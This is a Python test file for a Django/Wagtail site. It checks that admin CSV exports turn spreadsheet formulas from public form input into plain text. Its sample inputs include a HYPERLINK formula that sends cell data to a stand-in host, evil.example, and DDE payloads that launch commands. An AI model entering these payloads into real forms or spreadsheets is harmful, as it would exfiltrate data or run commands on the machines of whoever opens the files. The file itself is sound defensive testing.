"""CSV exports never hand a spreadsheet a formula that someone typed into a public form."""

import csv
import io

import pytest
from django.urls import get_resolver
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from contributions.factories import ConsultationAnswerFactory, ConsultationPageFactory
from events.factories import EventPageFactory
from events.models import RegistrationStatus
from events.registration import register
from website.exports import FormulaSafeExportMixin, neutralise

PROJECT_APPS = ("contributions", "events", "partners", "practices", "search", "translators")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_is_kept_as_text(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Neighbourhood dinners", "", 3, -4, None, "a=b"])
def test_other_cells_are_written_as_they_are(value):
    assert neutralise(value) == value


def export_views(patterns, found):
    for pattern in patterns:
        if hasattr(pattern, "url_patterns"):
            export_views(pattern.url_patterns, found)
        view_class = getattr(getattr(pattern, "callback", None), "view_class", None)
        if (
            view_class
            and issubclass(view_class, SpreadsheetExportMixin)
            and view_class.__module__.split(".")[0] in PROJECT_APPS
        ):
            found.add(view_class)
    return found


def test_every_export_of_the_admin_is_formula_safe():
    views = export_views(get_resolver().url_patterns, set())
    assert len(views) >= 8  # registrations, figures, answers, proposals, feedback ×2, …
    assert [view for view in views if not issubclass(view, FormulaSafeExportMixin)] == []


def exported_rows(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_registration_named_with_a_formula_exports_as_text(admin_client, net):
    event = EventPageFactory(
        parent=net.page("events"), registration_status=RegistrationStatus.ON_SITE, capacity=5
    )
    register(
        event,
        {
            "name": FORMULA,
            "email": "eve@example.org",
            "organisation": "+cmd|' /C calc'!A0",
            "country": "IT",
            "role": "",
            "accessibility_needs": "",
            "consent": True,
        },
    )
    cells = {
        cell
        for row in exported_rows(admin_client, "/admin/events/registrations/?export=csv")
        for cell in row
    }
    assert "'" + FORMULA in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert FORMULA not in cells


def test_a_consultation_answer_with_a_formula_exports_as_text(admin_client, net):
    consultation = ConsultationPageFactory(parent=net.page("home"), slug="plan")
    ConsultationAnswerFactory(consultation=consultation, text="@SUM(1+1)*cmd|' /C calc'!A0")
    rows = exported_rows(admin_client, "/admin/consultation-answers/?export=csv")
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {cell for row in rows for cell in row}
